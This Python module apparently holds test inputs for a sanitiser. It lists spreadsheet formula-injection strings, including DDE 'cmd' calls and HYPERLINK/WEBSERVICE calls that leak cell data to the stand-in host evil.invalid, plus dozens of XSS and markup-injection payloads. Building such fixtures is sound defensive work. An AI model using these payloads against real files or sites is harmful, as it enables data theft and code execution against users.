"""What somebody could write into a free text: formulas for a spreadsheet, markup for a page.

A formula would call `cmd`, fetch from `evil.invalid` or reckon; markup would run `hit()`, load from
`evil.invalid`, or show something that carries `id=hit`.
"""

_STARTERS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠")  # noqa: RUF001 - full width
_BEFORE = ("", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\x0b")
_BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.invalid/?"&A1,"total")',
    'WEBSERVICE("http://evil.invalid/"&B2)',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.invalid/", A1), "//a")',
)
_INSIDE = (
    "rent;=1+1",
    "rent\t=1+1",
    "rent\r\n=1+1",
    "rent\n+1+1",
    'rent";=1+1;"',
    "rent; \u00a0@SUM(1+1)",
    "a|\t-1+cmd|' /C calc'!A0",
    "rent;＝1+1",  # noqa: RUF001 - full width on purpose
)
FORMULAS = (
    *(before + starter + _BODIES[0] for before in _BEFORE for starter in _STARTERS),
    *(before + starter + body for before in _BEFORE[:2] for starter in _STARTERS for body in _BODIES[1:]),
    *_INSIDE,
)
"""212 of them: each way to begin, and each body a formula may have."""

_RUN = (
    "<script>hit()</script>",
    "<ScRiPt src=//evil.invalid/x.js></ScRiPt>",
    "</script><script>hit()</script>",
    "</style><script>hit()</script>",
    "</title><svg onload=hit()>",
    "<img src=x onerror=hit()>",
    "<img src=x onerror=&#104;&#105;&#116;()>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "`><img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,evil#hit>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()>",
    "<audio src onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=hit()>",
    "<noscript><p title='</noscript><img src onerror=hit()>'>",
    "<template><img src=x onerror=hit()></template>",
    '" onmouseover="hit()" x="',
    "' onmouseover='hit()' x='",
    '" autofocus onfocus=hit() x="',
    "javascript:hit()",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "&lt;img src=x onerror=hit()&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "%3Cimg src=x onerror=hit()%3E",
    "\\u003cimg src=x onerror=hit()\\u003e",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[><img src=x onerror=hit()>]]>",
    "＜img src=x onerror=hit()＞",  # noqa: RUF001 - full width on purpose
)
_LOAD = (
    "<img src=http://evil.invalid/a.png>",
    "<link rel=stylesheet href=http://evil.invalid/a.css>",
    "<style>@import url(http://evil.invalid/b.css);</style>",
    "<p style='background:url(http://evil.invalid/c.png)'>x</p>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid/><button id=hit>Sign in</button></form>",
    "<a href=javascript:hit()>total</a>",
    "<a href=http://evil.invalid/>total</a>",
    "<b id=hit>bold</b>",
)
_MARKDOWN = (
    "[total](javascript:hit())",
    "[total](http://evil.invalid/)",
    "![total](http://evil.invalid/d.png)",
    "<http://evil.invalid/e>",
    "http://evil.invalid/f",
    "**hit**",
    "# hit",
    ":red[hit] :material/skull:",
    "$\\href{javascript:hit()}{total}$",
    "$$\\includegraphics{http://evil.invalid/g.png}$$",
)
MARKUP = (*_RUN, *_LOAD, *_MARKDOWN)
"""61 of them."""
